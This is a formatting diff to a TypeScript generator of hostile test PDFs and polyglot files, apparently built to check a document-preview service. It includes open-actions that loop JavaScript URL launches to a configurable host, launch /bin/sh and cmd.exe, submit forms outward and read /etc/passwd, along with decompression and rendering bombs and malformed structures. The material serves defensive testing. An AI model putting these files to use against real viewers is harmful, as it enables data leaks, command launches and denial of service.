@@ -8,7 +8,13 @@ const pages = '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 612 792]>>'
 const page = (more = '') => `<</Type/Page/Parent 2 0 R/Contents 4 0 R${more}>>`
 /** A document of one page: its content, what else the page says, further objects from the fifth on. */
 const one = (content: string | Buffer, more = '', others: (string | Buffer)[] = []) =>
-  pdfOf([catalogue, pages, page(more), typeof content === 'string' ? stream(content) : content, ...others])
+  pdfOf([
+    catalogue,
+    pages,
+    page(more),
+    typeof content === 'string' ? stream(content) : content,
+    ...others,
+  ])
 const flate = (bytes: Buffer, dictionary = '') => stream(bytes, `/Filter/FlateDecode${dictionary}`)
 const image = (width: number, height: number, bytes: Buffer, filter = '/Filter/FlateDecode') =>
   stream(
@@ -22,7 +28,13 @@ const form = (content: string, resources = '') =>
 /** Documents that do something when they are opened, or that name what is elsewhere. A page of them may be shown. */
 function active(host: string): [string, Buffer][] {
   const catalog = (more: string, ...others: string[]) =>
-    pdfOf([`<</Type/Catalog/Pages 2 0 R${more}>>`, pages, page(), stream('0 0 9 9 re f'), ...others])
+    pdfOf([
+      `<</Type/Catalog/Pages 2 0 R${more}>>`,
+      pages,
+      page(),
+      stream('0 0 9 9 re f'),
+      ...others,
+    ])
   const script = `/S/JavaScript/JS(for(;;\\){app.launchURL('${host}/js'\\)})`
   return [
     ['open-script', catalog(`/OpenAction<<${script}>>`)],
@@ -30,15 +42,26 @@ function active(host: string): [string, Buffer][] {
     ['page-script', one('0 0 9 9 re f', `/AA<</O<<${script}>>>>`)],
     ['launch', catalog('/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>')],
     ['uri', catalog(`/OpenAction<</S/URI/URI(${host}/uri)>>`)],
-    ['remote', catalog(`/OpenAction<</S/GoToR/F<</Type/Filespec/FS/URL/F(${host}/remote.pdf)>>/D[0/Fit]>>`)],
+    [
+      'remote',
+      catalog(`/OpenAction<</S/GoToR/F<</Type/Filespec/FS/URL/F(${host}/remote.pdf)>>/D[0/Fit]>>`),
+    ],
     ['submit', catalog(`/OpenAction<</S/SubmitForm/F<</FS/URL/F(${host}/submit)>>>>`)],
     ['import', catalog(`/OpenAction<</S/ImportData/F<</FS/URL/F(${host}/data.fdf)>>>>`)],
     ['xfa', catalog('/AcroForm<</XFA 5 0 R>>', `<</Length 0/F<</FS/URL/F(${host}/xfa)>>>>`)],
     [
       'external-stream',
-      pdfOf([catalogue, pages, page(), `<</Length 0/F<</FS/URL/F(${host}/content)>>>>\nstream\n\nendstream`]),
+      pdfOf([
+        catalogue,
+        pages,
+        page(),
+        `<</Length 0/F<</FS/URL/F(${host}/content)>>>>\nstream\n\nendstream`,
+      ]),
     ],
-    ['external-file', pdfOf([catalogue, pages, page(), '<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream'])],
+    [
+      'external-file',
+      pdfOf([catalogue, pages, page(), '<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream']),
+    ],
     [
       'rendition',
       one(
@@ -56,20 +79,30 @@ function bombs(): [string, Buffer, boolean?][] {
       form('/X Do '.repeat(40), `/Resources<</XObject<</X ${6 + ((i + 1) % count)} 0 R>>>>`),
     )
   const doubled = Array.from({ length: 24 }, (_, i) =>
-    i === 23 ? form('0 0 612 792 re f') : form('/X Do /X Do /X Do /X Do', `/Resources<</XObject<</X ${6 + i} 0 R>>>>`),
+    i === 23
+      ? form('0 0 612 792 re f')
+      : form('/X Do /X Do /X Do /X Do', `/Resources<</XObject<</X ${6 + i} 0 R>>>>`),
   )
   return [
     ['content', one(flate(huge)), true],
     ['twice-packed', one(stream(deflateSync(huge), '/Filter[/FlateDecode/FlateDecode]')), true],
     [
       'hex-bomb',
-      one(stream(deflateSync(Buffer.alloc(50_000_000, 0x41)), '/Filter[/FlateDecode/ASCIIHexDecode/RunLengthDecode]')),
+      one(
+        stream(
+          deflateSync(Buffer.alloc(50_000_000, 0x41)),
+          '/Filter[/FlateDecode/ASCIIHexDecode/RunLengthDecode]',
+        ),
+      ),
       true,
     ],
     [
       'predictor',
       one(
-        flate(squeezed(100_000_000), '/DecodeParms<</Predictor 12/Columns 1000000000/Colors 32/BitsPerComponent 16>>'),
+        flate(
+          squeezed(100_000_000),
+          '/DecodeParms<</Predictor 12/Columns 1000000000/Colors 32/BitsPerComponent 16>>',
+        ),
       ),
       true,
     ],
@@ -77,12 +110,16 @@ function bombs(): [string, Buffer, boolean?][] {
     ['image-30000', one('612 0 0 792 0 0 cm /X Do', drawn, [image(30_000, 30_000, huge)]), true],
     [
       'jpx',
-      one('612 0 0 792 0 0 cm /X Do', drawn, [image(60_000, 60_000, Buffer.alloc(4000, 0x4f), '/Filter/JPXDecode')]),
+      one('612 0 0 792 0 0 cm /X Do', drawn, [
+        image(60_000, 60_000, Buffer.alloc(4000, 0x4f), '/Filter/JPXDecode'),
+      ]),
       true,
     ],
     [
       'jbig2',
-      one('612 0 0 792 0 0 cm /X Do', drawn, [image(60_000, 60_000, Buffer.alloc(4000, 0x97), '/Filter/JBIG2Decode')]),
+      one('612 0 0 792 0 0 cm /X Do', drawn, [
+        image(60_000, 60_000, Buffer.alloc(4000, 0x97), '/Filter/JBIG2Decode'),
+      ]),
       true,
     ],
     [
@@ -98,10 +135,20 @@ function bombs(): [string, Buffer, boolean?][] {
       true,
     ],
     ['form-of-itself', one('/X Do', drawn, [form('/X Do /X Do /X Do', drawn)]), true],
-    ['forms-in-a-ring', one('/X Do', '/Resources<</XObject<</X 6 0 R>>>>', ['null', ...forms(5)]), true],
+    [
+      'forms-in-a-ring',
+      one('/X Do', '/Resources<</XObject<</X 6 0 R>>>>', ['null', ...forms(5)]),
+      true,
+    ],
     ['doubled', one('/X Do', drawn, doubled), true],
     ['operators', one(flate(deflateSync(Buffer.from('0 0 m 612 792 l S\n'.repeat(3_000_000)))))],
-    ['curves', one(flate(deflateSync(Buffer.from('0 0 m 9 900 700 0 612 792 c 900 w S\n'.repeat(1_000_000))))), true],
+    [
+      'curves',
+      one(
+        flate(deflateSync(Buffer.from('0 0 m 9 900 700 0 612 792 c 900 w S\n'.repeat(1_000_000)))),
+      ),
+      true,
+    ],
     ['clips', one(`${'q 0 0 612 792 re W n '.repeat(200_000)}`), true],
     ['nested', one('['.repeat(2_000_000)), true],
     [
@@ -148,7 +195,10 @@ function bombs(): [string, Buffer, boolean?][] {
       'mask-of-itself',
       one('/G gs 0 0 612 792 re f', '/Resources<</ExtGState<</G 5 0 R>>>>', [
         '<</SMask<</S/Luminosity/G 6 0 R>>>>',
-        form('/G gs 0 0 612 792 re f', '/Group<</S/Transparency>>/Resources<</ExtGState<</G 5 0 R>>>>'),
+        form(
+          '/G gs 0 0 612 792 re f',
+          '/Group<</S/Transparency>>/Resources<</ExtGState<</G 5 0 R>>>>',
+        ),
       ]),
       true,
     ],
@@ -178,8 +228,16 @@ function broken(): [string, Buffer, boolean?][] {
     ],
     ['no-pages', pdfOf([catalogue, '<</Type/Pages/Count 0/Kids[]>>'])],
     ['two-billion-pages', pdfOf([catalogue, '<</Type/Pages/Count 2147483647/Kids[]>>'])],
-    ['length-of-itself', pdfOf([catalogue, pages, page(), '<</Length 4 0 R>>\nstream\n0 0 9 9 re f\nendstream']), true],
-    ['length-negative', pdfOf([catalogue, pages, page(), '<</Length -1>>\nstream\n0 0 9 9 re f\nendstream']), true],
+    [
+      'length-of-itself',
+      pdfOf([catalogue, pages, page(), '<</Length 4 0 R>>\nstream\n0 0 9 9 re f\nendstream']),
+      true,
+    ],
+    [
+      'length-negative',
+      pdfOf([catalogue, pages, page(), '<</Length -1>>\nstream\n0 0 9 9 re f\nendstream']),
+      true,
+    ],
     ['previous-loop', pdfOf([catalogue, pages, page(), stream('0 0 9 9 re f')], '/Prev 9'), true],
     ['huge-table', replaced('xref\n0 5', 'xref\n0 999999999'), true],
     ['negative-table', replaced('startxref\n', 'startxref\n-'), true],
@@ -237,9 +295,20 @@ async function polyglots(host: string): Promise<Hostile[]> {
       text(`\0<svg xmlns="http://www.w3.org/2000/svg"><image href="${host}/i"/></svg>`),
       false,
     ],
-    ['postscript.pdf', 'application/pdf', text(`%!PS-Adobe-3.0\n(${host}) (r) file\n{} loop\n`), false],
+    [
+      'postscript.pdf',
+      'application/pdf',
+      text(`%!PS-Adobe-3.0\n(${host}) (r) file\n{} loop\n`),
+      false,
+    ],
   ]
-  return made.map(([name, mediaType, bytes, mayShow]) => ({ of: 'polyglot', name, mediaType, bytes, mayShow }))
+  return made.map(([name, mediaType, bytes, mayShow]) => ({
+    of: 'polyglot',
+    name,
+    mediaType,
+    bytes,
+    mayShow,
+  }))
 }
 
 /** Archives under the names of what previews are made of. */
